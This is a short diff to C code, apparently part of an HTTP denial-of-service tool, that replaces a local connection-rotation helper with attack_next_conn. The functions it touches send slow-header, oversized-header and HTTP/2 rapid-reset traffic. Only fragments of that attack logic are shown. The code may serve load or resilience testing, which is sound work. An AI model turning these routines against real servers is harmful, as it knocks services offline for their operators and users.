@@ -45,20 +45,14 @@ void attack_http_answer(struct attack *a, struct attack_conn *c, uint8_t flags, 
     }
 }
 
-/* The next of his connections, if it is open. */
-static struct attack_conn *next_conn(struct attack *a)
-{
-    return attack_conn_at(a, a->turn++ % a->n_conns);
-}
-
 void attack_idle_crowd_send(struct attack *a)
 {
-    next_conn(a);
+    attack_next_conn(a);
 }
 
 void attack_slow_heads_send(struct attack *a)
 {
-    struct attack_conn *c = next_conn(a);
+    struct attack_conn *c = attack_next_conn(a);
     if (c != NULL)
         attack_conn_send(a, c, TCP_ACK | TCP_PSH, 65535, "a", 1);
 }
@@ -67,7 +61,7 @@ void attack_slow_heads_send(struct attack *a)
 void attack_large_heads_send(struct attack *a)
 {
     uint8_t more[SEGMENT_BYTES];
-    struct attack_conn *c = next_conn(a);
+    struct attack_conn *c = attack_next_conn(a);
     if (c == NULL || c->seq - c->body >= LARGE_HEAD_BYTES)
         return;
     memset(more, 'a', sizeof(more));
@@ -76,7 +70,7 @@ void attack_large_heads_send(struct attack *a)
 
 void attack_hanging_send(struct attack *a)
 {
-    next_conn(a);
+    attack_next_conn(a);
 }
 
 static uint8_t *put_frame(uint8_t *at, uint32_t bytes, uint8_t type, uint8_t flags, uint32_t stream)
@@ -110,7 +104,7 @@ static uint8_t *put_stream(const struct attack *a, uint8_t *at, uint32_t stream)
 void attack_rapid_resets_send(struct attack *a)
 {
     uint8_t segment[SEGMENT_BYTES];
-    struct attack_conn *c = next_conn(a);
+    struct attack_conn *c = attack_next_conn(a);
     if (c == NULL)
         return;
     uint8_t *at = segment;
